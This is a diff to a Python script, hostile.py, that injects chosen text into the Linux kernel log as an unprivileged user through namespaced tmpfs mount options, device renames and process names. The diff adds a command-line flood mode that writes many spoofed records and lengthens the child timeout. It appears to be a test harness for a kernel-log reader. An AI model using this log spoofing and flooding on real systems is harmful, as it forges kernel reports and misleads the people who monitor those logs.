@@ -1,5 +1,8 @@
 """Brings words of kernel reports into the kernel log as a user without privilege can: in texts that the kernel prints.
 
+    hostile.py          every attack once
+    hostile.py RECORDS  so many records, of mounts and of tasks that end by a fault
+
 Each attack is a process of its own, named like a banner. What needs a capability is done in namespaces of the user.
 """
 
@@ -72,6 +75,14 @@ def mount() -> None:
         LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, option.encode())
 
 
+def flood(records: int) -> None:
+    """Mount with options that no file system has, again and again, each naming something else."""
+    in_namespaces()
+    for number in range(records):
+        option = OPTIONS[number % len(OPTIONS)].replace("nv_open", f"f{number}").replace("innocent", f"m{number}")
+        LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, option.encode())
+
+
 def rename_device() -> None:
     """Give the loopback device of a network namespace another name."""
     in_namespaces()
@@ -111,7 +122,7 @@ def as_task(name: str, attack: Callable[[], object]) -> None:
     sys.stdout.flush()
     child = os.fork()
     if child == 0:
-        signal.alarm(20)
+        signal.alarm(600)
         LIBC.prctl(PR_SET_NAME, name.encode())
         try:
             attack()
@@ -121,7 +132,10 @@ def as_task(name: str, attack: Callable[[], object]) -> None:
 
 
 def main() -> None:
-    """Attack in every way."""
+    """Attack in every way, or as often as is asked for."""
+    if len(sys.argv) > 1:
+        as_task("mount", lambda: flood(int(sys.argv[1])))
+        return
     as_task("mount", mount)
     as_task("ip", rename_device)
     as_task(NAMES[0], old_calls)
